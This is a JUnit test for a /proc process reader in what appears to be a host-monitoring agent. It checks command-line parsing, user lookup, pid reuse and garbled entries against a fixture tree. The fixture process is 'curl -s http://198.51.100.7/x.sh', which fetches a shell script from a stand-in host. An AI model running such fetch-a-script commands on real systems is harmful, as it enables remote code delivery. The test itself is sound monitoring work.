package io.microagent.collect.process;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertNull;

import io.microagent.linux.HostPaths;
import io.microagent.linux.UserNames;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Instant;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** The /proc reader on a fixture tree under Agent_HostRoot: every host path it reads goes through the root. */
class ProcReaderTest {
    static final Instant T = Instant.parse("2026-11-27T18:00:00Z");
    @TempDir
    Path root;
    ProcReader reader;

    @BeforeEach
    void tree() throws IOException {
        Path proc = Files.createDirectories(root.resolve("proc/42"));
        Files.write(proc.resolve("cmdline"), "/usr/bin/curl\0-s\0http://198.51.100.7/x.sh\0".getBytes(StandardCharsets.UTF_8));
        Files.writeString(proc.resolve("status"), "Name:\tcurl\nPPid:\t41\nUid:\t1000\t1000\t1000\t1000\n");
        // start time 500 ticks = 5 s after boot
        Files.writeString(proc.resolve("stat"), "42 (curl) S 41 42 42 0 -1 0 0 0 0 0 0 0 0 0 20 0 1 0 500 0 0");
        Files.createSymbolicLink(proc.resolve("exe"), Path.of("/usr/bin/curl"));
        Files.createDirectories(root.resolve("etc"));
        Files.writeString(root.resolve("etc/passwd"), "pi:x:1000:1000::/home/pi:/bin/sh\n");
        reader = new ProcReader(new HostPaths(root), new UserNames(new HostPaths(root)));
    }

    @Test
    void aProcessIsReadUnderTheHostRoot() {
        ProcessExecution e = reader.read(42, T, null, ProcessExecution.EXEC, -1);
        assertEquals("/usr/bin/curl -s http://198.51.100.7/x.sh", e.commandLine());
        assertEquals("/usr/bin/curl", e.executable());
        assertEquals(1000, e.uid());
        assertEquals("pi", e.userName());
        assertEquals(41, e.parentPid());
        assertEquals(42, e.pid());
    }

    @Test
    void aProcessStartedAfterTheEventIsAnotherOneAndIsNotRead() {
        long eventAtFourSeconds = 4_000_000_000L;
        ProcessExecution e = reader.read(42, T, 7, ProcessExecution.EXEC, eventAtFourSeconds);
        assertEquals("", e.commandLine(), "the pid was reused: nothing of the newer process is reported");
        assertNull(e.uid());
        assertEquals(7, e.parentPid(), "what the event itself said stays");
        assertEquals("/usr/bin/curl -s http://198.51.100.7/x.sh",
                reader.read(42, T, null, ProcessExecution.EXEC, 6_000_000_000L).commandLine());
    }

    @Test
    void aGoneOrGarbledProcessIsUnread() throws IOException {
        assertEquals("", reader.read(43, T, null, ProcessExecution.EXEC, -1).commandLine());
        Files.writeString(root.resolve("proc/42/stat"), "42 (trunc");
        assertEquals("", reader.read(42, T, null, ProcessExecution.EXEC, -1).commandLine());
    }
}
